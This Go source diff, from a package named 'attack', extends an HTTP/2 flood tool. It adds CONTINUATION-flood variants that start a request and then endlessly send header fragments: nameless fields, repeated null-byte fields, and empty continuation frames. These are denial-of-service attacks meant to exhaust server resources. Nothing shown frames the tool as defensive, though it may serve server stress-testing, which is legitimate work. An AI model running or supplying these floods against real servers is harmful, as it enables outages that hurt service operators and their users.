@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"crypto/tls"
 	"fmt"
@@ -128,13 +129,20 @@ func floods(request sendFrames) map[string]sendFrames {
 		"settings": func(f *http2.Framer, _ uint32) error {
 			return f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
 		},
-		"pings": func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) },
-		"headers": func(f *http2.Framer, stream uint32) error {
-			if stream > 1 {
-				return f.WriteContinuation(1, false, make([]byte, 1000))
-			}
-			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
-		},
+		"pings":               func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) },
+		"headers":             endlessHead(make([]byte, 1000)), // fields without a name
+		"fields":              endlessHead(bytes.Repeat([]byte("\x00\x01a\x01b"), 200)),
+		"empty continuations": endlessHead(nil),
+	}
+}
+
+// endlessHead begins a request, of which it sends a fragment of the head again and again, in frames of CONTINUATION.
+func endlessHead(fragment []byte) sendFrames {
+	return func(f *http2.Framer, stream uint32) error {
+		if stream > 1 {
+			return f.WriteContinuation(1, false, fragment)
+		}
+		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
 	}
 }
 
